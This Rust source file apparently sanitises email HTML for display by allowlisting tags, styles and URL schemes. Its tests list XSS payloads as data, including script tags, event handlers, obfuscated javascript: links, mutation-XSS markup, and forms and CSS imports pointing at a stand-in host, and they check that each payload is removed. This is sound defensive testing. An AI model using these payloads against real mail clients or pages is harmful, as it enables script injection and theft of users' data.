//! Makes the bodies of messages harmless for a page that shows them: no scripts, no forms, nothing that is loaded from
//! elsewhere by a style, no address that a browser would run.
//!
//! Pictures by address stay, and `cid:` for those that are attached. Whether a page loads pictures from elsewhere is the
//! decision of the program that shows it. A text that would take long or much memory is refused (`measure`).

mod measure;

use std::{
    collections::HashSet,
    io::{self, ErrorKind, Read},
    sync::LazyLock,
};

use ammonia::{Builder, UrlRelative};
use html_escape::encode_text;

use crate::platform::cpu::Turn;

/// Elements that mail programs write and that the library does not know as harmless.
const TAGS: [&str; 2] = ["font", "center"];
/// The attributes of looks that old mail programs write.
const LOOKS: [&str; 8] = ["align", "bgcolor", "border", "color", "dir", "height", "valign", "width"];
/// The schemes of addresses. `data:` is not among them: a page of a data address runs scripts.
const SCHEMES: [&str; 5] = ["http", "https", "mailto", "tel", "cid"];
/// The properties of styles. None of them takes an address, or puts an element over the rest of a page.
const STYLES: [&str; 44] = [
    "background-color",
    "border",
    "border-bottom",
    "border-collapse",
    "border-color",
    "border-left",
    "border-radius",
    "border-right",
    "border-spacing",
    "border-style",
    "border-top",
    "border-width",
    "color",
    "direction",
    "display",
    "font",
    "font-family",
    "font-size",
    "font-style",
    "font-variant",
    "font-weight",
    "height",
    "letter-spacing",
    "line-height",
    "margin",
    "margin-bottom",
    "margin-left",
    "margin-right",
    "margin-top",
    "max-width",
    "min-width",
    "padding",
    "padding-bottom",
    "padding-left",
    "padding-right",
    "padding-top",
    "text-align",
    "text-decoration",
    "text-indent",
    "text-transform",
    "vertical-align",
    "white-space",
    "width",
    "word-break",
];

static CLEANER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut builder = Builder::default();
    builder
        .add_tags(TAGS)
        .add_generic_attributes(LOOKS)
        .add_generic_attributes(["style"])
        .filter_style_properties(HashSet::from(STYLES))
        .url_schemes(HashSet::from(SCHEMES))
        // A message has no address to which one could be relative.
        .url_relative(UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer"));
    builder
});

/// An HTML text that would take too long or too much memory to sanitise.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct TooComplex;

/// The harmless part of an HTML text. `is_late` says whether the time for it is over.
///
/// # Errors
/// [`TooComplex`].
pub fn sanitise(html: &str, is_late: &dyn Fn() -> bool, _: &Turn) -> Result<String, TooComplex> {
    clean(html, is_late)
}

fn clean(html: &str, is_late: &dyn Fn() -> bool) -> Result<String, TooComplex> {
    measure::check(html, is_late)?;
    // What only a tree costs, such as the search for a place among the children of an element, ends with the time.
    let in_time = InTime { rest: html.as_bytes(), is_late };
    CLEANER.clean_from_reader(in_time).map(|clean| clean.to_string()).map_err(|_| TooComplex)
}

/// Reads a text until the time is over.
struct InTime<'a> {
    rest: &'a [u8],
    is_late: &'a dyn Fn() -> bool,
}

impl Read for InTime<'_> {
    fn read(&mut self, buffer: &mut [u8]) -> io::Result<usize> {
        if (self.is_late)() { Err(ErrorKind::TimedOut.into()) } else { self.rest.read(buffer) }
    }
}

/// A plain text as HTML, with its lines and blanks.
pub fn html_of_text(text: &str) -> String {
    format!(r#"<div style="white-space:pre-wrap">{}</div>"#, encode_text(text))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn clean(html: &str) -> String {
        super::clean(html, &|| false).expect("a simple text")
    }

    #[test]
    fn a_text_that_takes_too_long_is_refused_and_so_is_one_of_endless_elements() {
        assert_eq!(super::clean("<p>x</p>", &|| true), Err(TooComplex));
        // It becomes late after the measuring.
        let asked = std::cell::Cell::new(0);
        let is_late = || asked.replace(asked.get() + 1) > 0;
        assert_eq!(super::clean("<p>x</p>", &is_late), Err(TooComplex));
        for tag in ["<div>", "<select>"] {
            assert_eq!(super::clean(&tag.repeat(1_000_000), &|| false), Err(TooComplex), "{tag}");
        }
    }

    #[test]
    fn a_long_text_with_letters_of_several_bytes_stays_whole() {
        let text = "<p>Grüße aus Zürich \u{1F600}</p>".repeat(5_000);
        assert_eq!(clean(&text), text);
    }

    #[test]
    fn what_a_browser_would_run_or_send_goes() {
        for dangerous in [
            "<script>steal()</script>",
            "<p onclick=steal()>a</p>",
            "<a href=\"javascript:steal()\">a</a>",
            "<a href=\"jAvAsCrIpT&colon;steal()\">a</a>",
            "<a href=\"data:text/html,<script>steal()</script>\">a</a>",
            "<iframe src=\"https://evil.example/steal\"></iframe>",
            "<form action=\"https://evil.example/steal\"><input name=password></form>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example/steal\">",
            "<base href=\"https://evil.example/steal\">",
            "<svg><script>steal()</script></svg>",
            "<math><mi><style><img src=x onerror=steal()></style></mi></math>",
            "<style>@import url(https://evil.example/steal)</style>",
            "<p style=\"background:url(https://evil.example/steal)\">a</p>",
            "<p style=\"background-image:url(https://evil.example/steal);position:fixed\">a</p>",
            "<object data=\"https://evil.example/steal\"></object>",
            "<link rel=stylesheet href=\"https://evil.example/steal\">",
            "<img src=x onerror=steal()>",
            "<!-- steal -->",
        ] {
            let cleaned = clean(dangerous);
            assert!(!cleaned.contains("steal"), "{dangerous}: {cleaned}");
        }
    }

    #[test]
    fn looks_links_and_attached_pictures_stay() {
        let html = "<table bgcolor=\"red\"><tbody><tr><td style=\"color:red;position:fixed\" width=\"3\">\
                    <img src=\"cid:a@b\" alt=\"A\"><a href=\"https://contoso.test/?a=1&amp;b=2\">x</a></td></tr></tbody></table>";
        let cleaned = clean(html);
        for part in [
            "src=\"cid:a@b\"",
            "href=\"https://contoso.test/?a=1&amp;b=2\"",
            "rel=\"noopener noreferrer\"",
            "style=\"color:red\"",
            "bgcolor=\"red\"",
        ] {
            assert!(cleaned.contains(part), "{part}: {cleaned}");
        }
        assert!(!cleaned.contains("position"), "{cleaned}");
        assert!(!clean("<a href=\"/local\">x</a>").contains("local"));
    }

    #[test]
    fn plain_text_becomes_html_that_shows_the_same() {
        let html = html_of_text("<b>1 & 2</b>\n  three");
        assert_eq!(html, "<div style=\"white-space:pre-wrap\">&lt;b&gt;1 &amp; 2&lt;/b&gt;\n  three</div>");
    }

    proptest! {
        #[test]
        fn plain_text_adds_no_element(text in "\\PC{0,60}") {
            prop_assert_eq!(html_of_text(&text).matches('<').count(), 2);
        }
    }
}
